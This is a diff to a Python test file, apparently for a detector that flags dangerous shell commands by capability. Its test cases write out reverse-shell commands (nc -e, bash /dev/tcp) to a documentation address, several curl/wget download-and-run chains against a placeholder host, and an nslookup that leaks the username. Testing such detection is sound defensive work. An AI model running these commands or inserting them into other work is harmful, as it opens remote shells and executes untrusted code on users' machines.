@@ -54,6 +54,11 @@ def test_code_of_another_language_that_is_put_together_is_read_in_it() -> None:
         (Capability.PROCESS, "203.0.113.9", "nc -e /bin/sh 203.0.113.9 4444"),
         (Capability.PROCESS, "/dev/tcp/203.0.113.9/4444", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
         (Capability.PROCESS, "./x", "curl -o x https://a.invalid; ./x"),
+        (Capability.PROCESS, "sh /tmp/x", "curl -s https://a.invalid -o /tmp/x && sh /tmp/x"),
+        (Capability.PROCESS, "python3 -u /tmp/x", "wget -qO /tmp/x https://a.invalid; python3 -u /tmp/x"),
+        (Capability.PROCESS, ". ./x", "curl https://a.invalid > x; . ./x"),
+        (Capability.PROCESS, "bash", "curl https://a.invalid > /tmp/x; bash < /tmp/x"),
+        (Capability.PROCESS, "sh $f", 'f=$(mktemp); curl https://a.invalid -o "$f"; sh "$f"'),
         (Capability.NETWORK, "$(whoami).a.invalid", "nslookup $(whoami).a.invalid"),
     ],
 )
